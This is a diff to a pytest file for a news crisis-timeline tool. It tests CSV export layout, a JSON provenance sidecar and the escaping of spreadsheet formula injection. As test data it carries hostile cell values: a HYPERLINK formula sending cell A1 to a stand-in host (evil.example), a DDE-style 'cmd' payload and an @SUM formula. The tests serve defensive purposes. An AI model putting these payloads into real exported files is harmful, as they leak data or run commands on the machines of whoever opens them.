@@ -9,7 +9,14 @@ import re
 import pandas as pd
 import pytest
 
-from crisis_timeline.exports import CSV_META_LINES, ExportContext, export, source_rows
+from crisis_timeline.csv_safe import csv_text, safe_cell
+from crisis_timeline.exports import (
+    ExportContext,
+    export,
+    provenance,
+    provenance_name,
+    source_rows,
+)
 from crisis_timeline.filters import Filters
 
 
@@ -25,8 +32,9 @@ def view(seed_extraction):
 def test_csv_round_trips_through_pandas(view):
     events, context, *_ = view
     text = export("csv", events, context)
-    assert text.startswith("# Crisis Timeline export")
-    frame = pd.read_csv(io.StringIO(text), skiprows=CSV_META_LINES)
+    assert text.startswith("event_id,article_id,outlet,"), "the CSV opens on its header"
+    assert not any(line.startswith("#") for line in text.splitlines())
+    frame = pd.read_csv(io.StringIO(text))
     assert len(frame) == len(events)
     assert list(frame.columns)[:3] == ["event_id", "article_id", "outlet"]
     assert set(frame["event_id"]) == set(events["event_id"])
@@ -105,3 +113,60 @@ def test_exports_follow_the_filtered_outlets(seed_extraction):
     assert any(d["unit"] == "minute" for c in clusters for d in c["discrepancies"])
     sources = source_rows(seed_extraction.articles, events)
     assert {s["source"] for s in sources} == {"RFI", "The Independent"}
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ('=HYPERLINK("http://evil.example/?leak="&A1,"x")', "'=HYPERLINK"),
+        ("+33 1 23", "'+33 1 23"),
+        ("-cmd|' /C calc'!A0", "'-cmd"),
+        ("@SUM(A1:A2)", "'@SUM"),
+        ("\t=1+2", "'\t=1+2"),
+        ("\r=1+2", "'\r=1+2"),
+        ("-12", "-12"),  # a signed number cannot run: kept as a number
+        ("+3.5", "+3.5"),
+        ("Poland said", "Poland said"),
+        ("a=b", "a=b"),  # only the first character matters
+    ],
+)
+def test_csv_cells_never_start_a_formula(value, written):
+    assert str(safe_cell(value)).startswith(written)
+    frame = pd.read_csv(io.StringIO(csv_text([{"cell": value, "n": 7}], ["cell", "n"])))
+    assert frame["n"].tolist() == [7], "numbers stay numeric"
+    cell = str(frame["cell"][0])
+    assert not cell.startswith(("=", "+", "@", "\t", "\r")) or cell in ("+3.5", "3.5")
+
+
+def test_numbers_and_lists_keep_their_type():
+    assert safe_cell(-12) == -12 and safe_cell(0.5) == 0.5 and safe_cell(None) is None
+    assert safe_cell(["=a"]) == '["=a"]'
+
+
+def test_csv_export_neutralises_hostile_outlets_and_sentences(view):
+    events, context, *_ = view
+    hostile = events.copy()
+    hostile["outlet"] = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    hostile["sentence"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    frame = pd.read_csv(io.StringIO(export("csv", hostile, context)))
+    assert set(frame["outlet"]) == {"'" + hostile["outlet"].iloc[0]}
+    assert set(frame["sentence"]) == {"'" + hostile["sentence"].iloc[0]}
+    assert pd.api.types.is_integer_dtype(frame["start"]), "offsets stay numeric"
+
+
+def test_csv_provenance_is_a_sidecar(view):
+    events, context, _, sources = view
+    payload = json.loads(provenance(events, context, sources))
+    assert payload["meta"]["events"] == len(events)
+    assert payload["meta"]["generated_at"] and payload["meta"]["filters"]
+    assert {s["source"] for s in payload["sources"]} >= {"RFI", "The Independent"}
+    assert list(payload["columns"])[0] == "event_id" and payload["columns"]["sentence"]
+    assert provenance_name("view.csv") == "view.csv.provenance.json"
+
+
+def test_json_export_carries_the_store_and_the_sources(view):
+    events, _, _, sources = view
+    context = ExportContext(filters=Filters(), article_count=5, store="/data/events.duckdb")
+    payload = json.loads(export("json", events, context, sources=sources))
+    assert payload["meta"]["store"] == "/data/events.duckdb"
+    assert len(payload["sources"]) == len(sources) == 5
